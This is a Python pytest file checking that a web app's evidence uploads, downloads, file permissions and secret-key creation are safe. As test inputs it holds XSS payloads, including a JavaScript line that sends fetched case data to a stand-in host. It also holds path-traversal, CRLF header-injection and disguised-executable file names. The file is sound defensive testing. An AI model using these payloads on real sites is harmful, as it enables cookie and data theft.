"""Uploads and the instance folder are safe (issue 8, defects 8 and 10).

Served types come from the content against an allow-list, every download is an attachment with
an RFC 6266 name and ``nosniff``, a file name never carries control characters or paths,
orphan files are cleaned up, Kesu's files are private to its user, the secret key is created
once however many processes start together, and every role may read the OpenAPI document.
"""

from __future__ import annotations

import io
import os
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path
from urllib.parse import unquote

import pytest
import sqlalchemy as sa

from core.app import create_app
from core.config import SECRET_FILE, secret_key
from core.extensions import db
from core.models import Evidence
from core.services import uploads
from tests.conftest import PASSWORD, USERS
from tests.test_evidence import PDF, PNG

HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
XML = b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'
JS = b"fetch('/api/v1/case/').then(r => r.text()).then(t => new Image().src = '//x/?' + t)"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


def upload(agent, case_id, content, filename, declared=None, kind="document"):
    file = (
        (io.BytesIO(content), filename, declared) if declared else (io.BytesIO(content), filename)
    )
    return agent.post(
        f"/api/v1/case/{case_id}/evidence",
        data={"file": file, "kind": kind},
        content_type="multipart/form-data",
    )


def fetch(agent, url):
    """GET a download, read it whole and close it (the file handle is released)."""
    resp = agent.get(url)
    resp.get_data()
    resp.close()
    return resp


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def disposition_name(header: str) -> str:
    """The UTF-8 name of an RFC 6266 ``filename*=UTF-8''...`` parameter."""
    part = next(p.strip() for p in header.split(";") if p.strip().startswith("filename*="))
    value = part.split("=", 1)[1]
    assert value.startswith("UTF-8''"), header
    return unquote(value[len("UTF-8''") :], encoding="utf-8", errors="strict")


# -- served types -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "declared"),
    [
        (HTML, "text/html"),
        (XML, "text/xml"),
        (XML, "application/xhtml+xml"),
        (JS, "text/javascript"),
        (SVG, "image/svg+xml"),
    ],
)
def test_declared_type_is_never_served(api, content, declared):
    agent = api("agent")
    case = agent.create_case()
    resp = upload(agent, case["id"], content, "page.html", declared)
    assert resp.status_code == 201, resp.get_json()
    ev = resp.get_json()["result"]
    assert ev["content_type"] == "text/plain"
    got = fetch(agent, ev["url"])
    assert got.status_code == 200 and got.data == content
    assert got.mimetype == "text/plain"
    assert got.headers["X-Content-Type-Options"] == "nosniff"
    assert got.headers["Content-Disposition"].startswith("attachment;")


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (PNG, "image/png"),
        (PDF, "application/pdf"),
        ("投诉说明：到货破损\r\n".encode(), "text/plain"),
        (b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 64, "application/octet-stream"),  # exe
        (b"\x00\x01binary\xff\xfe", "application/octet-stream"),
        ("GBK 编码".encode("gbk"), "application/octet-stream"),
    ],
)
def test_type_comes_from_the_content(api, content, expected):
    agent = api("agent")
    case = agent.create_case()
    resp = upload(agent, case["id"], content, "file.bin", "text/html")
    assert resp.status_code == 201, resp.get_json()
    ev = resp.get_json()["result"]
    assert ev["content_type"] == expected
    got = fetch(agent, ev["url"])
    assert got.mimetype == expected


def test_a_stored_type_off_the_allow_list_is_served_as_octet_stream(app, api):
    """A row written by an older version with a client's type is not served with that type."""
    agent = api("agent")
    case = agent.create_case()
    ev = upload(agent, case["id"], HTML, "page.html").get_json()["result"]
    with app.app_context():
        db.session.execute(
            sa.update(Evidence).where(Evidence.id == ev["id"]).values(content_type="text/html")
        )
        db.session.commit()
    got = fetch(agent, ev["url"])
    assert got.status_code == 200
    assert got.mimetype == "application/octet-stream"


def test_a_photo_must_be_an_allowed_image(api):
    agent = api("agent")
    case = agent.create_case()
    resp = upload(agent, case["id"], SVG, "photo.svg", "image/svg+xml", kind="photo")
    assert resp.status_code == 400 and "file" in resp.get_json()["errors"]


# -- download headers ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["送货单 (1).pdf", "report.pdf", "a;b c%20d's.pdf", "Ünïcode—名.pdf"]
)
def test_every_download_is_an_rfc6266_attachment(client, api, name):
    agent = api("agent")
    case = agent.create_case()
    ev = upload(agent, case["id"], PDF, name).get_json()["result"]
    assert ev["filename"] == name
    client.post("/login/", data={"username": "agent", "password": PASSWORD})
    screen_url = f"/cases/{case['id']}/evidence/{ev['id']}"
    for got in (fetch(agent, ev["url"]), fetch(client, screen_url)):
        assert got.status_code == 200, got.request.path
        header = got.headers["Content-Disposition"]
        assert header.startswith("attachment;")
        assert disposition_name(header) == name
        assert header.isascii()
        assert got.headers["X-Content-Type-Options"] == "nosniff"
        assert got.mimetype == "application/pdf"


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("a\x00b.pdf", "ab.pdf"),
        ("evil\r\nSet-Cookie: x=1.txt", "evilSet-Cookie: x=1.txt"),
        ("../../etc/passwd", "_._etc_passwd"),
        ("..\\..\\boot.ini", "_._boot.ini"),
        ("photo\u202egnp.exe", "photognp.exe"),
        ("..", "file"),
        ("\x00\x01\x1f", "file"),
        ("   ", "file"),
        ("x" * 300 + ".pdf", "x" * 251 + ".pdf"),
        ("照片 1.png", "照片 1.png"),
    ],
)
def test_safe_filename(raw, safe):
    assert uploads.safe_filename(raw) == safe


def test_control_characters_never_reach_a_header(app, api):
    agent = api("agent")
    case = agent.create_case()
    raw = "a\x00b\x07\x1b\u202e/../..\\c.pdf"
    resp = upload(agent, case["id"], PDF, raw)
    assert resp.status_code == 201, resp.get_json()
    ev = resp.get_json()["result"]
    assert ev["filename"].startswith("ab") and ev["filename"].endswith("c.pdf")
    assert not any(ch in ev["filename"] for ch in "\x00\x07\x1b\u202e/\\")
    assert ".." not in ev["filename"]
    got = fetch(agent, ev["url"])
    header = got.headers["Content-Disposition"]
    assert not any(ord(ch) < 32 or ch == "\x7f" for ch in header)
    assert disposition_name(header) == ev["filename"]
    with app.app_context():
        stored = db.session.get(Evidence, ev["id"])
        assert stored.filename == ev["filename"]
        # the file itself is stored under its random key, never under the client's name
        files = [p for p in Path(app.config["KESU_UPLOAD_DIR"]).rglob("*") if p.is_file()]
        assert [p.name for p in files] == [stored.storage_key]


def test_a_stored_unsafe_name_is_made_safe_when_served(app, api):
    agent = api("agent")
    case = agent.create_case()
    ev = upload(agent, case["id"], PDF, "ok.pdf").get_json()["result"]
    with app.app_context():
        db.session.execute(
            sa.update(Evidence).where(Evidence.id == ev["id"]).values(filename="x\x1b\r\n/y.pdf")
        )
        db.session.commit()
    header = fetch(agent, ev["url"]).headers["Content-Disposition"]
    assert disposition_name(header) == "x_y.pdf"


# -- orphan files -------------------------------------------------------------------------------


def _age(path: Path, minutes: float) -> None:
    then = time.time() - minutes * 60
    os.utime(path, (then, then))


def test_cleanup_removes_old_orphans_only(app, api, runner):
    agent = api("agent")
    case = agent.create_case()
    ev = upload(agent, case["id"], PNG, "a.png", kind="photo").get_json()["result"]
    root = Path(app.config["KESU_UPLOAD_DIR"])
    with app.app_context():
        kept = uploads.path_for(db.session.get(Evidence, ev["id"]).storage_key)
        old_orphan = uploads.path_for(uploads.store(b"left by a crash"))
        young_orphan = uploads.path_for(uploads.store(b"an upload in flight"))
    foreign = root / "README.txt"
    foreign.write_text("not a stored file")
    for path in (kept, old_orphan, foreign):
        _age(path, 61)
    _age(young_orphan, 59)

    result = runner.invoke(args=["cleanup-uploads"])
    assert result.exit_code == 0, result.output
    assert "1 orphan" in result.output
    assert not old_orphan.exists()
    assert kept.exists() and young_orphan.exists() and foreign.exists()

    result = runner.invoke(args=["cleanup-uploads", "--older-than-minutes", "0"])
    assert result.exit_code == 0, result.output
    assert not young_orphan.exists()
    assert kept.exists() and foreign.exists()
    assert fetch(agent, ev["url"]).data == PNG


def test_sweep_cleans_up_orphans_too(app, runner):
    with app.app_context():
        orphan = uploads.path_for(uploads.store(b"left by a crash"))
    _age(orphan, 120)
    result = runner.invoke(args=["sweep"])
    assert result.exit_code == 0, result.output
    assert not orphan.exists()


def test_cleanup_without_an_upload_folder(tmp_path, template_db):
    from tests.conftest import make_app

    app = make_app(tmp_path, template_db, KESU_UPLOAD_DIR=str(tmp_path / "nothing" / "here"))
    Path(app.config["KESU_UPLOAD_DIR"]).rmdir()
    with app.app_context():
        assert uploads.cleanup_orphans() == []


# -- permissions --------------------------------------------------------------------------------


def test_database_and_uploads_are_private(tmp_path):
    instance = tmp_path / "fresh"
    app = create_app(
        {
            "INSTANCE_PATH": str(instance),
            "SECRET_KEY": "x" * 32,
            "TESTING": True,
        }
    )
    database = instance / "kesu.db"
    assert mode(instance) == 0o700
    assert database.exists() and mode(database) == 0o600
    assert mode(Path(app.config["KESU_UPLOAD_DIR"])) == 0o700
    with app.app_context():
        with db.engine.begin() as con:
            con.execute(sa.text("CREATE TABLE probe (x INTEGER)"))
            con.execute(sa.text("INSERT INTO probe VALUES (1)"))
        for suffix in ("-wal", "-shm", "-journal"):
            extra = instance / f"kesu.db{suffix}"
            if extra.exists():
                assert mode(extra) == 0o600, suffix
        stored = uploads.path_for(uploads.store(b"evidence"))
        assert mode(stored) == 0o600
        assert mode(stored.parent) == 0o700
        db.session.remove()
        db.engine.dispose()
    assert mode(instance / SECRET_FILE) == 0o600


def test_an_older_install_is_tightened(tmp_path, template_db):
    from tests.conftest import make_app

    instance = tmp_path / "instance"
    (instance / "uploads").mkdir(parents=True)
    instance.chmod(0o755)
    (instance / "uploads").chmod(0o755)
    database = instance / "kesu.db"
    database.write_bytes(template_db.read_bytes())
    database.chmod(0o644)
    make_app(tmp_path, template_db)
    assert mode(instance) == 0o700
    assert mode(instance / "uploads") == 0o700
    assert mode(database) == 0o600


def test_uploaded_files_are_private(app, api):
    agent = api("agent")
    case = agent.create_case()
    ev = upload(agent, case["id"], PNG, "a.png", kind="photo").get_json()["result"]
    with app.app_context():
        path = uploads.path_for(db.session.get(Evidence, ev["id"]).storage_key)
    assert mode(path) == 0o600
    assert mode(path.parent) == 0o700
    assert mode(Path(app.config["KESU_UPLOAD_DIR"])) == 0o700


# -- the secret key -----------------------------------------------------------------------------

_KEY_SCRIPT = """
import sys, time
from pathlib import Path
from core.config import secret_key
start = float(sys.argv[2])
while time.time() < start:
    pass
print(secret_key(Path(sys.argv[1])))
"""


def test_six_processes_on_a_fresh_instance_share_one_key(tmp_path):
    instance = tmp_path / "instance"
    instance.mkdir()
    root = str(Path(__file__).resolve().parent.parent)
    env = {k: v for k, v in os.environ.items() if k != "KESU_SECRET_KEY"}
    env["PYTHONPATH"] = root
    start = str(time.time() + 3)
    procs = [
        subprocess.Popen(
            [sys.executable, "-c", _KEY_SCRIPT, str(instance), start],
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for _ in range(6)
    ]
    outputs = [p.communicate(timeout=120) for p in procs]
    assert all(p.returncode == 0 for p in procs), [err for _, err in outputs]
    keys = {out.strip() for out, _ in outputs}
    assert len(keys) == 1 and len(keys.pop()) == 64
    assert [p.name for p in instance.iterdir()] == [SECRET_FILE]
    assert mode(instance / SECRET_FILE) == 0o600


def test_a_key_being_written_is_waited_for(tmp_path):
    """Another process created the key file and has not written it yet: wait, do not use ''."""
    path = tmp_path / SECRET_FILE
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)

    def finish():
        time.sleep(0.3)
        os.write(fd, b"k" * 64)
        os.close(fd)

    writer = threading.Thread(target=finish)
    writer.start()
    try:
        assert secret_key(tmp_path) == "k" * 64
    finally:
        writer.join()


# -- the OpenAPI document -----------------------------------------------------------------------


ONE_PER_ROLE = sorted({role: user for user, (role, _) in reversed(USERS.items())}.values())


@pytest.mark.parametrize("username", ONE_PER_ROLE)
def test_every_role_reads_the_openapi_document(api, username):
    resp = api(username).get("/api/v1/_openapi")
    assert resp.status_code == 200
    assert resp.get_json()["openapi"].startswith("3.")
